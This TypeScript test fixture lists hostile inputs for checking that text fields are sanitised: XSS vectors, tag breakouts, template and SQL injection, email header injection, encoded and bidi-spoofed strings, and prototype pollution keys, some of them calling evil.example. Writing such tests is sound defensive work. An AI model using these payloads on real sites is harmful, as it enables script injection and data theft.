// Hostile texts for plain fields, as people would type or send them: whole vectors of many kinds, then the HTML of attack-html.ts.
// A text that succeeds calls `hit()` with its number, opens a dialog, requests or navigates to an address with 'canary' in it, or
// changes the page. None has a null character, which every field refuses, and all fit the shortest field of several lines.
import { codePoints } from '../../core/contract/code-points.ts';
import { communityLimits } from '../../core/contract/community-limits.ts';
import { attackHtml } from './attack-html.ts';

const markup = [
  '<script>hit(1)</script>',
  '<script>alert(1)</script>',
  '<script>document.title="canary";location="/canary-script"</script>',
  '<script src="/canary.js"></script>',
  '<script type=module>import("/canary.js")</script>',
  '<img src=x onerror=hit(1)>',
  '<img src=/canary-picture>',
  '<img srcset="/canary-picture 1x" src=x onerror=prompt(1)>',
  '<svg onload=hit(1)>',
  '<svg/onload=fetch("/canary-fetch")>',
  '<svg><script href="/canary.js"></script></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.hit(1)</script>">',
  '<body onload=hit(1)>',
  '<details open ontoggle=hit(1)>x</details>',
  '<input autofocus onfocus=hit(1)>',
  '<video src=x onerror=confirm(1)></video>',
  '<iframe src="javascript:parent.hit(1)"></iframe>',
  '<iframe src="/canary-frame"></iframe>',
  '<object data="/canary-object"></object>',
  '<embed src="/canary-embed">',
  '<form action="/canary-form"><input name=x autofocus><button>x</button></form>',
  '<meta http-equiv="refresh" content="0;url=/canary-refresh">',
  '<base href="https://evil.example/canary/">',
  '<link rel="stylesheet" href="/canary.css">',
  '<link rel="prefetch" href="/canary-prefetch">',
  '<a href="javascript:hit(1)" autofocus>x</a>',
  '<dialog open><form method=dialog><button>OK</button></form></dialog>',
  '<template shadowrootmode=open><script>hit(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=hit(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hit(1)&gt;">',
];
const breakouts = [
  '</script><script>hit(1)</script>',
  '</textarea><script>hit(1)</script>',
  '</title><script>hit(1)</script>',
  '</style><script>hit(1)</script>',
  '</p></article></section></dialog><script>hit(1)</script>',
  '--><script>hit(1)</script><!--',
  ']]><script>hit(1)</script>',
  '" onfocus="hit(1)" autofocus x="',
  "' onmouseover='hit(1)' style='position:fixed;inset:0' x='",
  '` onclick=hit(1) `',
  '">\'><svg onload=hit(1)>',
  '\\"-hit(1)-"',
  "';hit(1);//",
  '\u2028hit(1)\u2029',
];
const styles = [
  '<style>body{display:none}</style>',
  '<style>@import "/canary.css";*{background:url(/canary-style)}</style>',
  '</style><style>*{visibility:hidden}</style>',
  'x;background:url(/canary-style);width:expression(hit(1))',
  '<div style="position:fixed;inset:0;background:red;z-index:9999">x</div>',
];
const templates = [
  '{{7*7}}',
  '{{constructor.constructor("hit(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is the text of a template
  '${hit(1)}',
  '#{hit(1)}',
  '<%= hit(1) %>',
  '[[hit(1)]]',
  '{% raw %}{{hit(1)}}',
];
const links = [
  'javascript:hit(1)',
  'JaVaScRiPt:hit(1)//https://a.example',
  'data:text/html,<script>hit(1)</script>',
  '[x](javascript:hit(1))',
  '![x](x"onerror="hit(1))',
  '<javascript:hit(1)>',
  'https://evil.example/canary?"><script>hit(1)</script>',
  '//evil.example/canary.js',
  '/api/auth/logout',
];
const coded = [
  '&lt;script&gt;hit(1)&lt;/script&gt;',
  '&amp;lt;img src=x onerror=hit(1)&amp;gt;',
  '&#60;img src=x onerror=hit(1)&#62;',
  '\\u003cscript\\u003ehit(1)\\u003c/script\\u003e',
  '\\x3cimg src=x onerror=hit(1)\\x3e',
  '%3Cscript%3Ehit(1)%3C/script%3E',
  '＜script＞hit(1)＜/script＞',
  '+ADw-script+AD4-hit(1)+ADw-/script+AD4-',
  '<\u200bscript>hit(1)</script>',
  '\ufeff<script>hit(1)</script>',
  '\u0001\u0008\u001b[31m<script>hit(1)</script>',
];
const letters = [
  'Fynd \u202egnp.exe\u202c <b>hit(1)</b>',
  '\u202e\u202e\u2067Hej\u2066\u202d hit(1)',
  'L\u200boppis\u2060 \u200d\u00ad\u200e\u200f i Växjö',
  `e${'\u0301'.repeat(120)} hit(1)`,
  'W'.repeat(490),
  '👩‍👩‍👧‍👦🏳️‍🌈'.repeat(20),
  'Rad ett\n\n\n\n\n\n\n\n\n\n\n\nrad två   med   mellanrum\tflik',
];
const injected = [
  'Hej\r\nBcc: canary@evil.example\r\n\r\n<script>hit(1)</script>',
  'Hej\r\nContent-Type: text/html\r\n\r\n<img src=x onerror=hit(1)>',
  'Hej%0d%0aSubject: canary',
  '=?utf-8?q?=3Cscript=3Ehit(1)=3C/script=3E?=',
  "'; DROP TABLE ratings; --",
  '=HYPERLINK("https://evil.example/canary")',
  '../../../canary',
];
const objects = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '{"__proto__":{"canary":true}}',
  '__proto__[canary]=1',
  'null',
  'undefined',
  '[object Object]',
  '0',
];
const known = [markup, breakouts, styles, templates, links, coded, letters, injected, objects].flat();

/** The known texts and `more` of attack-html.ts, trimmed as fields are, each with a number of its own in its call of `hit`. */
export function attackTexts(more: number): string[] {
  return [...known, ...attackHtml(more, 18)]
    .map((text, at) => text.trim().replaceAll('hit(1)', `hit(${at})`))
    .filter((text) => !text.includes('\u0000') && codePoints(text) <= communityLimits.reportReason);
}
